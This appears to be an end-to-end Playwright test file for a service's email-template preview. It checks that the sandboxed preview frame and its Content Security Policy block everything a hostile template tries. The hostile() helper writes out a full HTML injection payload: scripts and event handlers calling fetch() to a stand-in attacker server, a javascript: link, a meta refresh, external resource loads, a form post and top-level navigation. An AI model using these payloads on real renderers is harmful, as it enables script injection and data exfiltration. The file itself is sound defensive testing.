"""The preview of a template: live, from the service's own renderer, in a frame in which nothing can do anything."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import timedelta

from playwright.async_api import FrameLocator, Locator, Page, Route, expect

from tests.e2e.pages import Visitors, button
from tests.e2e.test_mailbox import admin, tab
from tests.support import Service, running_service

EDITOR = "/settings/email-templates/welcome?panel=preview"
PREVIEW = "**/v1/settings/email-templates/*/preview**"


def frame(page: Page) -> FrameLocator:
    """What is shown; the one that loads behind it has no name."""
    return page.frame_locator('iframe[title^="Preview of"]')


def inbox(page: Page) -> Locator:
    return page.get_by_role("region", name="In an inbox")


class Attacker:
    """A server somewhere else, which notes whatever reaches it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.url = ""

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        request = await reader.readline()
        self.asked.append(request.decode(errors="replace").strip())
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()


@asynccontextmanager
async def attacker() -> AsyncIterator[Attacker]:
    there = Attacker()
    server = await asyncio.start_server(there.answer, "127.0.0.1", 0)
    there.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    async with server:
        yield there


def hostile(url: str) -> str:
    """Everything that a mail could try; each has a mark of its own."""
    mark = "try { parent.marked = true; parent.document.title = 'marked' } catch (e) {}"
    return f"""<!doctype html><meta http-equiv="refresh" content="0; url={url}/refresh">
        <link rel="stylesheet" href="{url}/style"><style>@import url({url}/import); p {{ background: url({url}/css) }}
        @font-face {{ font-family: f; src: url({url}/font) }} p {{ font-family: f }}</style>
        <h1>Hostile</h1><p>words</p>
        <script>{mark} fetch("{url}/script"); top.location = "{url}/top"</script>
        <script src="{url}/external"></script>
        <img src="data:x" onerror="{mark} fetch('{url}/handler')"><svg onload="fetch('{url}/svg')"></svg>
        <iframe src="{url}/iframe"></iframe><object data="{url}/object"></object>
        <video src="{url}/video" autoplay></video>
        <form action="{url}/form" method="post"><button>Send</button></form>
        <a id="script" href="javascript:{mark.replace('"', "'")}fetch('{url}/link')">Run</a>
        <a id="away" href="{url}/away">Away</a> <a id="top" target="_top" href="{url}/link-top">Top</a>
        <a id="new" target="_blank" href="{url}/new">New</a>"""


async def fooled(page: Page, html: str) -> None:
    """Have the service's renderer fooled: it answers the form with that HTML, under its own headers."""

    async def answer(route: Route) -> None:
        if route.request.is_navigation_request():
            response = await route.fetch()
            await route.fulfill(response=response, body=html)
        else:
            await route.fallback()

    await page.route(PREVIEW, answer)


# What the browser says of each thing that it kept from happening.
KEPT = (
    "Refused to execute the redirect",
    "Blocked script execution",
    "Loading the stylesheet",
    "Loading the image",
    "Loading the font",
    "Loading media",
    "Loading plugin data",
    "Blocked form submission",
    "Running the JavaScript URL",
    "Unsafe attempt to initiate navigation",
    "Blocked opening",
    """Framing '{url}/' violates the following Content Security Policy directive: "default-src 'none'".""",
    """Framing '{url}/' violates the following Content Security Policy directive: "frame-src 'self'".""",
)


async def test_nothing_in_the_preview_can_do_anything(service: Service, visitors: Visitors) -> None:
    """Not even where the renderer, which refuses all of it, had let it pass."""
    boss = await admin(service)
    async with attacker() as there:
        page = await visitors.signed_in(service, boss, None)
        await fooled(page, hostile(there.url))
        await page.goto(EDITOR)
        hostile_mail = frame(page).get_by_role("heading", name="Hostile")
        await expect(hostile_mail).to_be_visible()
        for name in ("Send", "Run", "Top", "New", "Away"):
            await frame(page).get_by_text(name, exact=True).press("Enter")
        async with asyncio.timeout(15):
            while missing := [each for each in KEPT if not complained(visitors, each.format(url=there.url))]:
                assert missing
                await page.wait_for_event("console")
        await expect(hostile_mail).to_be_visible()
        assert there.asked == []
        assert await page.evaluate("[window.marked, document.title.includes('marked')]") == [None, False]
        assert page.url.endswith(EDITOR)
        assert len(page.context.pages) == 1
        await page.close()
    visitors.complaints.clear()


async def test_what_a_hostile_author_writes_is_not_even_rendered(service: Service, visitors: Visitors) -> None:
    boss = await admin(service)
    async with attacker() as there:
        page = await visitors.signed_in(service, boss, None)
        await given(page, html=hostile(there.url))
        await page.goto(EDITOR)
        await expect(page.get_by_role("region", name="Preview")).to_contain_text("The template has errors.")
        await expect(page.locator("iframe")).to_have_count(0)
        assert there.asked == []


async def test_the_mail_is_shown_in_several_ways(service: Service, visitors: Visitors) -> None:
    boss = await admin(service)
    page = await visitors.signed_in(service, boss, EDITOR, color_scheme="null")
    body = frame(page).locator("body")
    await expect(frame(page).get_by_role("heading").first).to_be_visible()
    await expect(page.locator("iframe[sandbox='']")).to_have_count(2)
    await expect(body).to_have_css("background-color", "rgb(246, 247, 246)")
    assert await body.evaluate("body => body.clientWidth") >= 720
    await expect(inbox(page)).to_contain_text("Gatepost")
    await expect(page.get_by_role("meter")).to_have_attribute("aria-valuetext", re.compile(r"^\d+ KB of 102 KB$"))

    await tab(page, "Phone").click()
    await expect(body).to_have_js_property("clientWidth", 375)
    await tab(page, "Dark").click()
    await expect(body).to_have_css("background-color", "rgb(15, 20, 19)")
    await tab(page, "Gmail dark").click()
    await expect(frame(page).locator("html")).to_have_css("filter", re.compile("invert"))
    await expect(body).to_have_css("background-color", "rgb(246, 247, 246)")
    await tab(page, "Plain text").click()
    await expect(page.get_by_role("tabpanel", name="Plain text")).to_contain_text("Gatepost")


async def test_a_token_that_has_expired_does_not_take_the_preview_away(database_url: str, visitors: Visitors) -> None:
    async with running_service(database_url, access_token_ttl=timedelta(seconds=3)) as service:
        page = await visitors.signed_in(service, await admin(service), EDITOR)
        heading = frame(page).get_by_role("heading").first
        await expect(heading).to_be_visible()
        async with asyncio.timeout(15):
            while (await page.request.get("/v1/me")).status == 200:
                await asyncio.sleep(0.05)
        await tab(page, "Gmail dark").click()
        await expect(frame(page).locator("html")).to_have_css("filter", re.compile("invert"))
        await expect(heading).to_be_visible()


async def test_the_preview_stays_while_the_network_is_away(service: Service, visitors: Visitors) -> None:
    page = await visitors.signed_in(service, await admin(service), EDITOR)
    heading = frame(page).get_by_role("heading").first
    await expect(heading).to_be_visible()
    # Longer than an answer vouches for the next request.
    await page.evaluate("const { now } = Date; Date.now = () => now() + 10_000")
    await page.context.set_offline(True)
    await tab(page, "Gmail dark").click()
    await expect(page.get_by_text("This view could not be loaded.")).to_be_visible()
    await expect(heading).to_be_visible()
    await page.context.set_offline(False)
    await button(page, "Try again").click()
    await expect(frame(page).locator("html")).to_have_css("filter", re.compile("invert"))


def complained(visitors: Visitors, of: str) -> bool:
    return any(of in each for each in visitors.complaints)


async def given(page: Page, **words: str) -> None:
    """Have the page begin with other words than those that are kept."""

    async def answer(route: Route) -> None:
        response = await route.fetch()
        template = await response.json()
        template["default"] |= words
        await route.fulfill(response=response, json=template)

    await page.route("**/v1/settings/email-templates/welcome?**", answer)
    await page.route("**/v1/settings/email-templates/welcome", answer)
